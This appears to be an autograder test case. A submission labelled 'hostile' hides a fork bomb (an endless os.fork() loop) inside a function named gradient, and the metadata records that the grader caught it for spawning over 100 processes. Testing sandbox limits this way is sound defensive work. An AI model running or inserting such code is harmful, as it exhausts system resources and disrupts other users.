"""
title = "A function that starts processes without end"
notebook = "easy"
kind = "hostile"
status = "graded, see reason"
reason = ["gradient: it had more than 100 processes"]
[points]
gradient = 0
"""


# %% gradient
def gradient(w, X, Y, lam):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
